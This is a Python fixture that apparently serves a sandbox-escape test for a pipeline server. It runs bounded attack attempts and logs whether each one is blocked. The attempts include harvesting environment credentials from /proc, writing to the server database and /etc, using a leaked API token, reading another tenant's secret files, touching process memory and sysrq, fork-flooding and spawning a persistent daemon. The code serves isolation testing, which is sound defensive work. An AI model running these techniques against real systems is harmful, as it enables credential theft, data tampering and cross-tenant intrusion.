"""A hostile datum: run by test_escape.py as ``python3 /pfs/in/escape_datum.py`` in a sandbox.

It tries to take over the server and the host and writes what each attempt did to
``/pfs/out/report.json``: ``{"attempt": "ok: ..." | "blocked: ..."}``, plus what it could see.
Every attack is bounded: at most ``FORKS`` processes, short network timeouts.

The test passes what a well-informed attacker would know in ``transform.env``: the server's home
on the host (``HOST_HOME``), its port (``SERVER_PORT``), the host paths of another pipeline's
sandbox directories (``VICTIM_DIRS``, ``:``-separated) and a ``MARKER`` for the files and
processes it tries to leave behind; the server's token, as if leaked, is the input file
``/pfs/in/leaked-token``.
"""

from __future__ import annotations

import json
import os
import resource
import signal
import socket
import time
from collections.abc import Callable
from typing import Any

FORKS = 300

report: dict[str, Any] = {}


def attempt(name: str, action: Callable[[], object]) -> None:
    try:
        report[name] = f"ok: {action()!r}"[:2000]
    except Exception as e:  # the attempt failed: that is what the test wants to see
        report[name] = f"blocked: {type(e).__name__}: {e}"[:2000]


def read(path: str) -> bytes:
    with open(path, "rb") as f:
        return f.read(4096)


def write(path: str, data: bytes = b"pwned", mode: str = "wb") -> int:
    with open(path, mode) as f:
        return f.write(data)


def http(port: int, token: str | None, method: str = "GET", path: str = "/v1/info") -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        auth = f"Authorization: Bearer {token}\r\n" if token else ""
        body = b'{"name": "pwned"}' if method == "POST" else b""
        head = (
            f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
            "Connection: close\r\n\r\n"
        )
        s.sendall(head.encode() + body)
        return s.recv(200)


def wait_linger() -> bool:
    """Whether the daemon below runs (seen in this sandbox's /proc within 5 s)."""
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        for pid in (p for p in os.listdir("/proc") if p.isdigit()):
            try:
                if os.environ["LINGER"].encode() in read(f"/proc/{pid}/cmdline"):
                    return True
            except OSError:
                continue
        time.sleep(0.05)
    return False


home = os.environ["HOST_HOME"]
port = int(os.environ["SERVER_PORT"])
marker = os.environ["MARKER"]
victims = [d for d in os.environ["VICTIM_DIRS"].split(":") if d]
leaked = read("/pfs/in/leaked-token").decode().strip()

# -- credentials -------------------------------------------------------------------------------
report["env"] = dict(os.environ)
environs = {}
commands = {}
for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
    try:
        environs[pid] = read(f"/proc/{pid}/environ").decode(errors="replace")
        commands[pid] = read(f"/proc/{pid}/cmdline").decode(errors="replace")
    except OSError as e:
        environs[pid] = f"blocked: {e}"
report["proc_environ"] = environs
report["proc_cmdline"] = commands
attempt("parent_environ", lambda: read(f"/proc/{os.getppid()}/environ"))

# -- the server's home -------------------------------------------------------------------------
attempt("read_db", lambda: read(f"{home}/tusk.db"))
attempt("write_db", lambda: write(f"{home}/tusk.db", b"pwned", "ab"))
attempt("list_home", lambda: os.listdir(home))
attempt("write_home", lambda: write(f"{home}/{marker}"))
attempt("list_objects", lambda: os.listdir(f"{home}/objects"))
attempt("write_objects", lambda: write(f"{home}/objects/{marker}"))

# -- the API, over the network -----------------------------------------------------------------
attempt("api_without_token", lambda: http(port, None))
attempt("api_with_leaked_token", lambda: http(port, leaked, "POST", "/v1/repos"))
attempt("api_ipv6_loopback", lambda: socket.create_connection(("::1", port), timeout=3))
attempt("interfaces", lambda: [name for _, name in socket.if_nameindex()])

# -- another pipeline's data -------------------------------------------------------------------
for i, victim in enumerate(victims):
    attempt(f"victim_list_{i}", lambda v=victim: os.listdir(v))
    attempt(f"victim_read_{i}", lambda v=victim: read(f"{v}/pfs/private/secret.txt"))
    attempt(f"victim_write_{i}", lambda v=victim: write(f"{v}/pfs/out/{marker}"))
attempt("scratch_parent", lambda: os.listdir(os.path.dirname(victims[0])))

# -- writing the host, the image, the inputs ---------------------------------------------------
attempt("write_var_tmp", lambda: write(f"/var/tmp/{marker}"))
attempt("write_etc", lambda: write(f"/etc/{marker}"))
attempt("write_image_root", lambda: write(f"/{marker}"))
attempt("write_image_usr", lambda: write(f"/usr/bin/{marker}"))
attempt("write_input", lambda: write("/pfs/in/escape_datum.py", b"# pwned", "ab"))
attempt("create_input", lambda: write(f"/pfs/in/{marker}"))
attempt("write_pfs", lambda: write(f"/pfs/{marker}"))
attempt("sysrq", lambda: write("/proc/sysrq-trigger", b"h"))

# -- the agent (and bwrap's init): their pipes to the worker, their memory ---------------------
agents = [pid for pid in environs if pid != str(os.getpid())]  # any init of the sandbox too


def open_pipes(pid: str) -> list[str]:
    """Open (and close at once, nothing read or written) the process's pipes, both ways."""
    opened = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
            for flags in (os.O_WRONLY, os.O_RDONLY):
                os.close(os.open(f"/proc/{pid}/fd/{fd}", flags | os.O_NONBLOCK))
                opened.append(f"{fd}/{flags}")
    return opened


for pid in agents:
    attempt(f"agent_pipes_{pid}", lambda p=pid: open_pipes(p))
    attempt(f"agent_mem_{pid}", lambda p=pid: open(f"/proc/{p}/mem", "r+b").close())

# -- privilege ---------------------------------------------------------------------------------
report["uid_map"] = read("/proc/self/uid_map").decode()
report["status_uid"] = [
    line
    for line in read("/proc/self/status").decode().splitlines()
    if line.startswith(("Uid:", "Cap"))
]
report["id"] = [os.getuid(), os.geteuid(), os.getgid()]
attempt(
    "raise_nproc",
    lambda: resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY,) * 2),
)

# -- processes: many, and one that tries to outlive the datum ---------------------------------
children = []
fork_error = ""
for _ in range(FORKS):
    try:
        pid = os.fork()
    except OSError as e:
        fork_error = f"{type(e).__name__}: {e}"
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    children.append(pid)
report["forks"] = len(children)
report["fork_error"] = fork_error
for pid in children:
    os.kill(pid, signal.SIGKILL)
for pid in children:
    os.waitpid(pid, 0)

if os.fork() == 0:  # double fork, a session of its own: a daemon that tries to stay
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", os.environ["LINGER"]])
    os._exit(0)
os.wait()
report["linger_started"] = wait_linger()

with open("/pfs/out/report.json", "w") as out:
    json.dump(report, out, indent=1, sort_keys=True)
